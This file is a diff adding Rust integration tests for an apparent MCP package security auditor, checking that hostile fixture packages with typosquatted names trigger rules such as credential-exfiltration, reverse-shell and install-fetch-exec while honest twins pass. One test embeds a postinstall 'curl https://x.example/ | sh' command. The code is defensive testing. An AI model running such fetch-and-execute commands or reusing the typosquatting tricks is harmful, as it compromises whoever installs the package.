@@ -1,0 +1,294 @@
+//! Code, manifest and metadata analysis end to end: the fixture packages of `testdata/code/`
+//! (directories, and the archives `scripts/make-code-fixtures.py` builds from them) are audited
+//! by the real binary. Each hostile package sits beside an honest twin with the same kind of
+//! capabilities, which must come out clean.
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use serde_json::Value;
+
+use crate::support::{bin, testdata};
+
+fn audit(path: &Path) -> Value {
+    let out = bin()
+        .args(["audit", "--format", "json", "--quiet"])
+        .arg(path)
+        .env(
+            "MCP_AUDIT_CACHE_DIR",
+            std::env::temp_dir().join("mcp-audit-code-tests"),
+        )
+        .output()
+        .expect("run mcp-audit");
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "{}: {e}: {}",
+            path.display(),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    report["results"][0].clone()
+}
+
+fn rules(result: &Value) -> BTreeSet<String> {
+    result["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
+        .collect()
+}
+
+fn archive(name: &str) -> std::path::PathBuf {
+    testdata().join("code/archives").join(name)
+}
+
+/// (directory, archive, verdict, rules that must fire)
+const HOSTILE: &[(&str, &str, &str, &[&str])] = &[
+    (
+        "npm-evil",
+        "modelcontextprotoco1-server-filesystem-1.0.0.tgz",
+        "block",
+        &[
+            "credential-exfiltration",
+            "env-exfiltration",
+            "suspicious-endpoint",
+            "cloud-metadata-access",
+            "hidden-mail-recipient",
+            "decode-and-exec",
+            "download-and-execute",
+            "reverse-shell",
+            "crypto-miner",
+            "persistence",
+            "resource-exhaustion",
+            "security-tampering",
+            "web-shell",
+            "anti-analysis",
+            "obfuscated-code",
+            "encoded-payload",
+            "tool-input-to-shell",
+            "tool-input-to-eval",
+            "shipped-executable",
+            "ai-config-write",
+            "readonly-tool-mutates",
+            "code-capability",
+            "install-script",
+            "install-fetch-exec",
+            "dependency-from-url",
+            "bundled-dependencies",
+            "npm-shrinkwrap",
+            "command-shadowing",
+            "installed-commands",
+            "scope-impersonation",
+            "no-repository",
+        ],
+    ),
+    (
+        "wheel-evil",
+        "mcp_server_fetcch-0.1.0-py3-none-any.whl",
+        "block",
+        &[
+            "credential-exfiltration",
+            "env-exfiltration",
+            "reverse-shell",
+            "pth-executable",
+            "command-shadowing",
+            "tool-input-to-shell",
+            "suspicious-endpoint",
+            "typosquat",
+        ],
+    ),
+    (
+        "sdist-evil",
+        "mcp_clock_evil-0.1.0.tar.gz",
+        "block",
+        &[
+            "install-fetch-exec",
+            "setup-py-cmdclass",
+            "custom-build-backend",
+            "environment-harvest",
+        ],
+    ),
+    (
+        "crate-evil",
+        "mcp-clock-evil-0.1.0.crate",
+        "warn",
+        &[
+            "build-script-exec",
+            "cargo-build-script",
+            "cargo-proc-macro",
+            "sensitive-file-access",
+        ],
+    ),
+    (
+        "mcpb-evil",
+        "server-sequential-thinking-1.0.0.mcpb",
+        "block",
+        &[
+            "install-fetch-exec",
+            "mcpb-secrets",
+            "mcpb-tools-mismatch",
+            "brand-impersonation",
+        ],
+    ),
+];
+
+/// (directory, archive) of the honest twins.
+const HONEST: &[(&str, &str)] = &[
+    ("npm-honest", "mcp-server-notes-fixture-1.0.0.tgz"),
+    (
+        "wheel-honest",
+        "mcp_server_weather_fixture-0.2.0-py3-none-any.whl",
+    ),
+    ("sdist-honest", "mcp_clock_fixture-0.1.0.tar.gz"),
+    ("crate-honest", "mcp-clock-fixture-0.1.0.crate"),
+    ("mcpb-honest", "notes-search-fixture-1.0.0.mcpb"),
+];
+
+#[test]
+fn code_hostile_fixtures_fire_their_rules_as_directories_and_archives() {
+    for (dir, arc, verdict, expected) in HOSTILE {
+        for path in [testdata().join("code").join(dir), archive(arc)] {
+            let result = audit(&path);
+            assert_eq!(
+                result["verdict"],
+                *verdict,
+                "{}: {result:#}",
+                path.display()
+            );
+            let fired = rules(&result);
+            for rule in *expected {
+                assert!(
+                    fired.contains(*rule),
+                    "{}: `{rule}` did not fire: {fired:?}",
+                    path.display()
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn code_honest_twins_are_allowed_without_findings_above_info() {
+    for (dir, arc) in HONEST {
+        for path in [testdata().join("code").join(dir), archive(arc)] {
+            let result = audit(&path);
+            assert_eq!(result["verdict"], "allow", "{}: {result:#}", path.display());
+            let above_info: Vec<&Value> = result["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter(|f| f["severity"] != "info")
+                .collect();
+            assert!(above_info.is_empty(), "{}: {above_info:#?}", path.display());
+            assert!(!result["tools"].as_array().unwrap().is_empty() || dir.starts_with("crate"));
+            if dir.starts_with("mcpb") {
+                assert!(rules(&result).contains("mcpb-server-command"), "{result:#}");
+            }
+        }
+    }
+}
+
+#[test]
+fn code_evidence_is_escaped() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("package.json"),
+        "{\"name\":\"esc-fixture\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl https://x.example/\\u001b[2J | sh\"}}",
+    )
+    .unwrap();
+    let result = audit(dir.path());
+    let text = result.to_string();
+    assert!(!text.contains('\u{1b}'), "{text}");
+    assert!(text.contains("\\\\u{1b}"), "{text}");
+}
+
+/// Rules that need registry facts or a file over the source size limit, exercised through the
+/// library on a real tree.
+#[test]
+fn code_registry_and_limit_rules_fire_through_the_library() {
+    use mcp_audit::analyze::{self, source::SourceSet, Context};
+    use mcp_audit::identify::Manifests;
+
+    let tree = mcp_audit::sandbox::unpack(
+        &testdata().join("code/npm-honest"),
+        &mcp_audit::sandbox::Limits::default(),
+    )
+    .expect("unpack");
+    let manifests = Manifests::load(&tree).unwrap();
+    let identity = manifests.identify(None).unwrap();
+    let mut sources = SourceSet::load(&tree);
+    sources.skipped.push((
+        "dist/huge.js".into(),
+        "70000000 bytes is over the limit".into(),
+    ));
+    let now = time::OffsetDateTime::now_utc();
+    let fmt = |t: time::OffsetDateTime| {
+        t.format(&time::format_description::well_known::Rfc3339)
+            .unwrap()
+    };
+    let registry = registry_adapters::RegistryMetadata {
+        published_at: Some(fmt(now - time::Duration::hours(5))),
+        created_at: Some(fmt(now - time::Duration::days(2))),
+        version_count: Some(1),
+        deprecated: Some("use 2.0".into()),
+        yanked: true,
+        ..Default::default()
+    };
+    let ctx = Context {
+        tree: &tree,
+        manifests: &manifests,
+        identity: &identity,
+        sources: &sources,
+        registry: Some(&registry),
+    };
+    let fired: BTreeSet<String> = analyze::analyze(&ctx)
+        .findings
+        .into_iter()
+        .map(|f| f.rule)
+        .collect();
+    for rule in [
+        "version-too-new",
+        "package-brand-new",
+        "version-deprecated",
+        "version-yanked",
+        "source-not-analyzed",
+    ] {
+        assert!(fired.contains(rule), "`{rule}` did not fire: {fired:?}");
+    }
+    let summary = analyze::code::capabilities(&ctx);
+    assert!(
+        summary.endpoints.contains("api.notes.example.com"),
+        "{summary:?}"
+    );
+    assert!(summary
+        .capabilities
+        .contains_key(&analyze::code::Capability::Network));
+}
+
+/// Every rule of the code, manifest and metadata tables fires in some fixture above.
+#[test]
+fn code_every_rule_has_a_fixture() {
+    let mut covered: BTreeSet<&str> = HOSTILE
+        .iter()
+        .flat_map(|(_, _, _, rules)| rules.iter().copied())
+        .collect();
+    covered.extend([
+        // Info in the honest MCPB twin (checked there).
+        "mcpb-server-command",
+        "version-too-new",
+        "package-brand-new",
+        "version-deprecated",
+        "version-yanked",
+        "source-not-analyzed",
+    ]);
+    for table in [
+        mcp_audit::analyze::code::RULES,
+        mcp_audit::analyze::manifest::RULES,
+        mcp_audit::analyze::metadata::RULES,
+    ] {
+        for rule in table {
+            assert!(covered.contains(rule.id), "no fixture fires `{}`", rule.id);
+        }
+    }
+}
